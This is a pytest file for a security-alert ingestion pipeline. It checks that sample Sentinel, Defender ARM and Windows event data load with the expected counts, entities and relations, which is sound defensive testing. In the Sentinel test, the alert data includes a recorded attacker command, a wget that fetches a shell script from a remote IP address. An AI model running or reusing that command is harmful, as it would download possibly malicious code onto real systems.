"""The real sample corpus (see tests/conftest.py) ingests completely."""

import json

import pytest

from alerts.models import (
    Alert,
    AlertEntity,
    Entity,
    ProviderIncident,
    RejectedItem,
    Relation,
    Severity,
)
from tests.alerts.helpers import JSON, NDJSON, edges, ingest, sentinel_entities
from tests.conftest import SAMPLES

pytestmark = pytest.mark.corpus

SENTINEL_SAMPLE = SAMPLES / "sentinel-securityalert.jsonl"
ARM_EXAMPLE = SAMPLES / "defender-arm-alerts.json"
EVENTS_SAMPLE = SAMPLES / "windows-events-psexec.jsonl"
DOWNLOAD_KEY = "2518520133657099999_384e00d0-4afc-4e9a-8935-bec64d3951a4"  # row 20
INCIDENT_KEY = "2518522745615999999_30ac5794-a265-4420-a1b7-6335ac08e2c0"  # row 23
WIN1_KEY = "2518520402897969999_b946cd89-667e-4ce7-b571-9603859a7234"  # row 24
ARM_KEYS = ["2518298467986649999_4d25bfef-2d77-4a08-adc0-3e35715cc92a",
            "2518765996949954086_2325cf9e-42a2-4f72-ae7f-9b863cba2d22"]


def sentinel_rows():
    return [json.loads(line) for line in SENTINEL_SAMPLE.read_bytes().splitlines()
            if line.strip()]


def test_it_ingests_the_sentinel_sample(p):
    rows = sentinel_rows()
    report = ingest(p.sub, SENTINEL_SAMPLE.read_bytes(), NDJSON)

    assert (report.accepted, report.duplicates, report.rejected) == (25, 0, 0)
    assert [r.type for r in report.results] == ["alert"] * 23 + ["incident", "alert"]
    assert all(r.warnings == [] for r in report.results)
    assert Alert.objects.filter(subscription=p.sub).count() == 24
    assert set(Alert.objects.values_list("key", flat=True)) == \
        {row["SystemAlertId"] for i, row in enumerate(rows) if i != 23}
    assert set(Alert.objects.values_list("format", flat=True)) == {"sentinel"}

    incident = ProviderIncident.objects.get(subscription=p.sub)
    assert report.results[23].id == incident.pk
    assert incident.key == INCIDENT_KEY
    assert incident.provider == "Detection"
    assert incident.alert_keys == [
        "2518522745615999999_c57a0525-9ca0-4caa-aee8-fd1bb33f785b",
        "2518520981440769999_caab1270-55d3-4447-8618-16cf8672e4e1",
        "2518520973978269999_57b6af71-984e-45f3-9aac-d6bbd79eed07"]
    assert not Alert.objects.filter(key=INCIDENT_KEY).exists()

    # Every alert's mentions are its entities as sent, in order.
    for i, row in enumerate(rows):
        if i == 23:
            continue
        alert = Alert.objects.get(key=row["SystemAlertId"])
        assert [m.props for m in alert.mentions.order_by("position")] == sentinel_entities(row)

    # One host MSTICAlertsLxVM2 across the 23 alerts that name it (by name or NetBiosName).
    lx = {m.entity_id for m in AlertEntity.objects.filter(kind="host",
                                                          label__iexact="msticalertslxvm2")}
    assert len(lx) == 1
    assert AlertEntity.objects.filter(entity_id__in=lx).count() == 23
    assert Entity.objects.filter(subscription=p.sub, kind="host").count() == 2
    assert sorted(Entity.objects.filter(kind="ip").values_list("label", flat=True)) == \
        ["104.211.30.1", "203.0.113.1", "23.97.60.214"]

    download = Alert.objects.get(key=DOWNLOAD_KEY)
    mentions = list(download.mentions.order_by("position").select_related("entity"))
    assert [(m.kind, m.label) for m in mentions] == [
        ("host", "MSTICALERTSLXVM2"), ("process", "process 0x4e4f"), ("account", "dbadmin"),
        ("file", "wget"), ("process", "wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"),
        ("host-logon-session", "0x2e8cf")]
    assert mentions[0].entity_id in lx
    assert all(m.entity.subscription_id == p.sub.pk for m in mentions)
    assert edges(download) == {
        (1, 0, "runs_on", "Host"), (2, 0, "refers_to", "Host"), (4, 3, "image", "ImageFile"),
        (4, 2, "runs_as", "Account"), (4, 1, "parent", "ParentProcess"),
        (4, 0, "runs_on", "Host"), (5, 0, "session_host", "Host"),
        (5, 2, "session_account", "Account")}
    wget = mentions[4].entity
    assert set(wget.identifiers.filter(strong=True).values_list("value", flat=True)) == {
        "process|pid-time-host|20053|2019-02-16T03:23:54Z|msticalertslxvm2",
        "process|cmd-time-host|wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"
        "|2019-02-16T03:23:54Z|msticalertslxvm2"}

    win1 = Alert.objects.get(key=WIN1_KEY)
    assert win1.severity == Severity.MEDIUM
    assert edges(win1) == {(1, 0, "refers_to", "Host")}
    assert win1.resource.external_id == rows[24]["ResourceId"].lower()


def test_it_ingests_the_arm_example_file_as_is(p):
    report = ingest(p.sub, ARM_EXAMPLE.read_bytes(), JSON)

    assert (report.accepted, report.duplicates, report.rejected) == (2, 0, 0)
    assert [[w["code"] for w in r.warnings] for r in report.results] == \
        [["incident_without_alerts"], ["incident_without_alerts"]]
    first, second = (Alert.objects.get(pk=r.id) for r in report.results)
    # Keyed by the ARM name, not by the shared systemAlertId nor the id's last segment.
    assert [first.key, second.key] == ARM_KEYS
    assert (first.format, second.format) == ("arm", "arm")
    assert (first.severity, second.severity) == (Severity.HIGH, Severity.MEDIUM)
    assert [w["code"] for w in first.warnings] == ["incident_without_alerts"]
    assert not ProviderIncident.objects.exists()

    doc = json.loads(ARM_EXAMPLE.read_text(encoding="utf-8"))
    values = doc["responses"]["200"]["body"]["value"]
    assert [m.props for m in first.mentions.order_by("position")] == \
        values[0]["properties"]["entities"]
    assert [(m.kind, m.label) for m in second.mentions.order_by("position")] == [
        ("host", "vm2"), ("account", "vm2\\contosoUser"), ("file", "cmd.exe"),
        ("process", "process 0x3c44"), ("file", "scrsave.scr"),
        ("process", "c:\\users\\contosoUser\\scrsave.scr")]
    assert Relation.objects.filter(alert__in=[first, second]).count() == 0
    ip = first.mentions.get().entity
    assert (ip.kind, ip.label) == ("ip", "192.0.2.1")
    assert first.resource == second.resource
    assert first.resource.external_id == values[0]["properties"]["resourceIdentifiers"][0][
        "azureResourceId"].lower()


def test_it_rejects_every_windows_event_of_the_events_sample_as_not_an_alert(p):
    report = ingest(p.sub, EVENTS_SAMPLE.read_bytes(), NDJSON)

    assert (report.accepted, report.rejected) == (0, 286)
    assert {r.error["code"] for r in report.results} == {"not_an_alert"}
    assert Alert.objects.count() == 0
    assert RejectedItem.objects.filter(subscription=p.sub, code="not_an_alert").count() == 286
